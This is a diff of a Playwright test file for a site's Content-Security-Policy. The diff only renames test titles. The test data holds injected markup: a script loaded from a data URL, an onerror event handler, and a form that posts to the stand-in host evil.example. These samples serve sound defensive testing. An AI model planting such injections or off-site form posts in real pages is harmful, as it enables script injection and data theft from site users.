@@ -12,7 +12,7 @@ const plant = async (page: Page, markup: string): Promise<void> => {
   await page.goto("/about");
 };
 
-test.describe("the Content-Security-Policy refuses", { tag: "@wide" }, () => {
+test.describe("the Content-Security-Policy blocks", { tag: "@wide" }, () => {
   test.afterEach(({ refusals }) => void (refusals.length = 0));
 
   for (const [what, markup] of [
@@ -21,14 +21,14 @@ test.describe("the Content-Security-Policy refuses", { tag: "@wide" }, () => {
     ["a script in a data URL", '<script src="data:text/javascript,window.planted=true"></script>'],
     ["an event handler", '<img src="/nothing.png" alt="" onerror="window.planted = true">'],
   ] as const)
-    test(`${what} planted in a page`, async ({ page, refusals }) => {
+    test(`${what} injected into a page`, async ({ page, refusals }) => {
       await plant(page, markup);
       await expect.poll(() => refusals.length).toBeGreaterThan(0);
       await hydrated(page);
       expect(await page.evaluate(() => "planted" in window)).toBe(false);
     });
 
-  test("a planted form that posts to another host", async ({ page, refusals }) => {
+  test("an injected form that posts to another host", async ({ page, refusals }) => {
     const hosts: string[] = [];
     page.on("request", (request) => hosts.push(new URL(request.url()).host));
     await plant(page, '<form action="https://evil.example/" method="post"><button id="planted">Win</button></form>');
